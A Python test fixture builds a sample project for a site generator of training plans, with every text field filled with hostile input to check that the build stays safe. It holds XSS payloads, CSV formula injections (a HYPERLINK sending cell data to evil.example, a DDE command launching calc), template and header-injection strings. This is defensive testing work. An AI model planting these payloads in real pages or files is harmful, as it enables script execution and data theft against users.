"""A small project in which every free text of every record is hostile, and which still builds."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import yaml

from planpress.model.amendment import Amendment
from planpress.model.charts import Chart
from planpress.model.courses import CourseFields, SeriesEntry, TrackEntry
from planpress.model.figures import Figure, Flow
from planpress.model.indicators import IndicatorRow, IndicatorTable, IndicatorValue
from planpress.model.plan import (
    Attachment,
    AudienceEntry,
    Contact,
    Issue,
    LegalBasis,
    Person,
    PlanRecord,
    Subplan,
    TableSpec,
    Theme,
)
from planpress.model.plan import Term as PlanTerm
from planpress.model.records import Notes
from planpress.model.rules import HoursPart
from planpress.model.services import Elsewhere, Entrance, Offer, Service
from planpress.model.site import City, FooterItem, OpenData, PageMetadata, Portal, Site, SiteContact
from planpress.model.strategies import Layer, Strategy
from planpress.model.timelines import Moment, Timeline
from planpress.model.vocabularies import (
    Equivalence,
    Equivalent,
    Exam,
    ExamLevel,
    Holiday,
    HolidayYear,
    HourBranch,
    Law,
    LawSource,
    NationalHours,
    Term,
    Venue,
)
from support.hostile_records import BOMB, bomb, filled
from support.hostile_rules import CHOICE, hostile_rules
from support.project import Project

PLAN = "plans/xinghu/114"
VOCABULARIES = "content/vocabularies"
LINK = "https://evil.example/\"><img/src=x/onerror=ran=1>'?q=</script><script>ran=1</script>&amp;#]]>{{7*7}}"
ADDRESS = "https://plans.example.org/"
ALIKE = {
    "formula-equals": '=HYPERLINK("https://evil.example/?"&A1,"點我")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "formula-wide": "＝1＋1",
    "formula-small": "﹦1﹢1",
    "formula-command": "=cmd|'/C calc'!A0",
    "script-end": "</script><script>ran=1</script>",
    "comment": "<!--<script>ran=1",
    "cdata": "]]><x onload=ran=1>",
    "title-end": "</title></style></textarea></template></select><svg onload=ran=1>",
    "entity": "&amp;lt;&#x3c;script&gt;",
    "quotes": "\"引號\" 'apostrophe' ` & <b>",
    "braces": "{{7*7}}{% raw %}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "calendar": "甲\\nEND:VEVENT\\r\\nBEGIN:VEVENT;,:",
    "header": "甲%0d%0aX-Evil: 1",
    "prototype": "__proto__",
    "constructor": "constructor",
    "format": "{0.__class__}%s%n{value:x}",
    "emoji": "表情🧑‍💻𠀀e\u0301\u0301\u0301",
    "arabic": "عربي עברית",
    "regex": ".*+?^${}()|[]\\/",
    "long": "長" * 3_000,
    "unbroken": "w" * 3_000,
    "scheme": "javascript:ran=1",
    "lines": "甲\nBEGIN:VEVENT\nEND:VCALENDAR\nX-A;B=,C:乙",
    "tab": "甲\t=1",
    "hidden": "零\u200b寬\u00a0空\u00ad白\U000e0041\ue000",
    "combining": "\u0301\u0301甲\u0301",
}
"""Texts that are a course's title, venue and note one by one, by the course's id."""


def hostile_project(root: Path) -> Project:
    """The project, written below ``root`` and not yet built."""
    project = Project(root)
    for path, record in sources().items():
        project.write(path, _yaml(record))
    project.write("content/pages/about.md", PROSE).write("content/pages/en/about.md", PROSE)
    project.write(f"{PLAN}/document.md", DOCUMENT)
    project.write("plans/xinghu/113/document.md", OTHER).write("plans/xinghu/113/courses.csv", _courses_csv())
    project.write("plans/xinghu/113/sessions.csv", _sessions_csv(113, ALIKE))
    project.write(f"{PLAN}/sessions.csv", _sessions_csv(114, ("one", "two")))
    return project


def sources() -> dict[str, Any]:
    """What each YAML file of the project holds."""
    return {**_site(), **_vocabularies(), **_plan()}


class _Plain(yaml.SafeDumper):
    """Writes a value that stands twice twice: anchors are refused."""

    def ignore_aliases(self, data: Any) -> bool:
        """Always."""
        return True


def _yaml(record: dict[str, Any]) -> str:
    return yaml.dump(record, Dumper=_Plain, allow_unicode=True, sort_keys=False, width=10**6)


STAFF, METHOD, BRANCH = bomb("Term.title"), bomb("Term.title"), bomb("HourBranch.title")


# -- the site and its cities ---------------------------------------------------------


def _site() -> dict[str, Any]:
    contacts = [filled(SiteContact, url=LINK)]
    return {
        "content/site.yaml": filled(
            Site,
            languages=["zh-Hant", "en"],
            address=ADDRESS,
            as_of="115年1月2日",
            updated="115年1月2日",
            contacts=contacts,
            footer=[filled(FooterItem, page="about"), filled(FooterItem, "page", url=LINK)],
            open_data=filled(OpenData, licence_url=LINK, published="115年1月1日"),
            metadata=filled(PageMetadata),
        ),
        "content/cities/xinghu.yaml": filled(
            City,
            "logo",
            accent="#0b6e6e",
            portals={"portal": filled(Portal, url=LINK)},
            numbering={"levels": "壹、 一、 (一) 1. (1)", "eleven": "拾壹"},
        ),
    }


def _vocabularies() -> dict[str, Any]:
    level = filled(ExamLevel, cefr="B1")
    books: dict[str, Any] = {
        "audiences": {"audiences": {"staff": filled(Term, title=STAFF)}},
        "methods": {"methods": {"method": filled(Term, title=METHOD)}},
        "hour-branches": {"hour_branches": {"branch": filled(HourBranch, title=BRANCH)}},
        "venues": {"venues": {"room": filled(Venue, city="xinghu", seats="40")}},
        "laws": {"laws": {"law": filled(Law, date="未載明", url=LINK), "other": filled(Law, date="未載明")}},
        "hours": {
            "hours": {
                "national": filled(
                    NationalHours,
                    since="未載明",
                    source=filled(LawSource, date="未載明"),
                    total="20小時",
                    parts={"one": filled(HoursPart, hours="20小時")},
                    unverified={"total": bomb("NationalHours.unverified")},
                )
            }
        },
        "exams": {
            "exams": {"exam": filled(Exam, levels={"low": level, "high": filled(ExamLevel, cefr="B2")})},
            "equivalences": {
                "table": filled(
                    Equivalence,
                    verified=False,
                    rows={"B1": {"exam": level["title"]}, "B2": {"exam": filled(Equivalent, "level")}},
                )
            },
        },
        "holidays": {
            "years": {
                year: filled(HolidayYear, holidays=[filled(Holiday, date=f"{year}年5月1日")])
                for year in ("112", "113", "114")
            }
        },
        "names": {"names": [bomb("Names.names")], "misprints": {bomb("Names.misprints"): "對"}},
        "english": {"terms": {CHOICE: bomb("English.terms"), "關於本站": BOMB}},
        "services": {
            "document": "xinghu/114",
            "entrances": {"visitors": filled(Entrance, clause="goals")},
            "functions": {
                "one": filled(
                    Service,
                    users=["visitors"],
                    state="連結",
                    offers=[filled(Offer, "page"), filled(Offer, page="catalog/")],
                    elsewhere=[filled(Elsewhere), {"city": "xinghu", "portal": "portal"}],
                    clause="goals",
                )
            },
        },
    }
    return {f"{VOCABULARIES}/{name}.yaml": book for name, book in books.items()}


# -- a plan --------------------------------------------------------------------------


def _plan() -> dict[str, Any]:
    dates = {"period": "114年1月1日至114年12月31日", "kind": "plan", "state": "draft"}
    return {
        f"{PLAN}/plan.yaml": filled(
            PlanRecord,
            "aliases",
            **dates,
            issue=filled(Issue, date="114年1月1日"),
            audience=[filled(AudienceEntry, clause="goals")],
            legal_basis={"law": filled(LegalBasis, date="114年1月1日", law="law")},
            themes={"names": filled(Theme)},
            terms={"term": filled(PlanTerm)},
            subplans={"plan": filled(Subplan, "plan", clause="goals")},
            attachments={
                "paper": filled(Attachment, file="未載明"),
                "chart": filled(Attachment, "file", figure="annexed"),
            },
            people=[filled(Person, share="100%")],
            contact=filled(Contact, public=True),
            tables={
                "summary": filled(
                    TableSpec,
                    "group",
                    of="courses",
                    columns=["課程名稱", "地點", "人數"],
                    heads={"地點": bomb("TableSpec.heads")},
                    notes=filled(Notes),
                )
            },
        ),
        f"{PLAN}/courses.yaml": {
            "track": filled(
                TrackEntry,
                series={
                    "series": filled(
                        SeriesEntry,
                        courses={
                            "one": filled(CourseFields, hours="6小時", seats="30", aliases=["old-one"]),
                            "two": filled(
                                CourseFields,
                                audience=[STAFF],
                                methods=[METHOD],
                                counts_for=[BRANCH],
                                seats="30",
                            ),
                        },
                    )
                },
            )
        },
        f"{PLAN}/rules.yaml": hostile_rules(),
        f"{PLAN}/indicators.yaml": _indicators(),
        f"{PLAN}/figures.yaml": _figures(),
        f"{PLAN}/amendment.yaml": filled(Amendment, reasons={"壹、一": bomb("Amendment.reasons")}),
        "plans/xinghu/113/plan.yaml": filled(PlanRecord, "aliases", **{**dates, "period": "113年"}),
    }


def _indicators() -> dict[str, Any]:
    columns = [bomb("IndicatorTable.columns"), "113"]
    unit = bomb("IndicatorRow.unit")
    rows = {key: filled(IndicatorRow, values=["1", "2"], unit=unit) for key in ("a", "b")}
    checks = [{"row": "a", "equals": "b"}, {"column": columns[0], "equals": columns[0]}]
    table = filled(IndicatorTable, columns=columns, rows=rows, checks=checks, notes=filled(Notes))
    given = {"value": "3", "clause": "goals"}
    operands = ("sum", "product", "quotient", "ratio", "equals")
    return {"tables": {"figures": table}, "values": {"figure": filled(IndicatorValue, *operands, **given)}}


def _figures() -> dict[str, Any]:
    first = bomb("Flow.steps")
    question = {
        "ask": bomb("Question.ask"),
        "then": bomb("Question.then"),
        "else": [bomb("Question.otherwise"), {"back": first}],
    }
    steps = [first, [bomb("Flow.steps.a"), bomb("Flow.steps.b")], question]
    return {
        "flows": {"flow": filled(Flow, steps=steps), "annexed": filled(Flow, steps=steps)},
        "figures": {"picture": filled(Figure, file="未載明")},
        "charts": {
            "printed": filled(Chart, "columns", "top", kind="bar", of="figures"),
            "ours": filled(Chart, "columns", "top", kind="stacked", of="figures"),
            "map": filled(Chart, "columns", kind="map", of=["track"], top="goals"),
        },
        "timelines": {
            "year": filled(Timeline, of="track", items=[filled(Moment, when="3月")]),
            "ours-too": filled(Timeline, "of", items=[filled(Moment, when="114年3月5日")]),
        },
        "strategies": {
            "layers": filled(
                Strategy,
                layers=[
                    filled(Layer, "below", of="names", boxes={"top": bomb("Layer.boxes")}, links={}),
                    filled(Layer, "of", "below", boxes={"low": bomb("Layer.boxes")}, links={"low": "top"}),
                ],
            )
        },
    }


# -- tables --------------------------------------------------------------------------


def _courses_csv() -> str:
    heads = ["編號", "類別", "系列", "課程名稱", "地點", "備註", "時數"]
    rows = [[key, "digital", "ai", text, text, text, "6小時"] for key, text in ALIKE.items()]
    return _csv(heads, rows)


def _sessions_csv(year: int, courses: Mapping[str, str] | tuple[str, ...]) -> str:
    heads = [
        "編號",
        "課程",
        "開始",
        "時間",
        "地點",
        "名額",
        "狀態",
        "報名連結",
        "核定",
        "教材",
        "備註",
        "更新日期",
    ]
    rows = []
    day = date(1911 + year, 5, 2)
    for number, key in enumerate(courses):
        text = courses[key] if isinstance(courses, Mapping) else bomb(f"Session.{key}")
        while day.weekday() > 4:
            day += timedelta(days=1)
        paper = f"{ALIKE['title-end']}：{LINK.replace(';', '')}"
        rows.append(
            [
                f"{key}-a",
                key,
                f"{year}年{day.month}月{day.day}日",
                "09:00至16:00",
                "room" if key == "two" else text,
                "30",
                "取消" if number % 2 else "籌備中",
                LINK,
                text,
                paper,
                text,
                f"{year}年1月1日",
            ]
        )
        day += timedelta(days=1)
    return _csv(heads, rows)


def _csv(heads: list[str], rows: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows([heads, *rows])
    return text.getvalue()


# -- documents -----------------------------------------------------------------------

CODE = BOMB.replace("`", "")
DOCUMENT = f"""\
# 目標 `{CODE}` {{#goals}}

1. 說明 `{CODE}`：{{value:figure}}、{{value:contact}}、{{list:names}}。
1. [連 "結' & ](https://evil.example/?"onmouseover=ran=1'%3Cscript%3E)與[信](mailto:a"onclick=ran=1@x.example)。

# 訓練 {{#training}}

## 類別 `{CODE}` {{#track}}

### 系列 `{CODE}` {{#series}}

# 附圖

{{figure:flow}}

{{figure:picture}}

{{figure:printed}}

{{figure:year}}

{{figure:layers}}

{{table:summary}}

{{table:award}}

{{table:figures}}

{{table:people}}

{{items:attachments}}

{{items:legal_basis}}
"""
OTHER = "# 目標\n\n1. 說明。\n\n# 類別 {#digital}\n\n## 系列 {#ai}\n"
PROSE = f"""\
# 關於 `{CODE}`

段落 `{CODE}` 與 [連結](https://evil.example/%22%3E%3Cscript%3E)。

## 標題 `{CODE}`

```
{CODE}
```

| 欄 |
|---|
| `{CODE}` |
"""
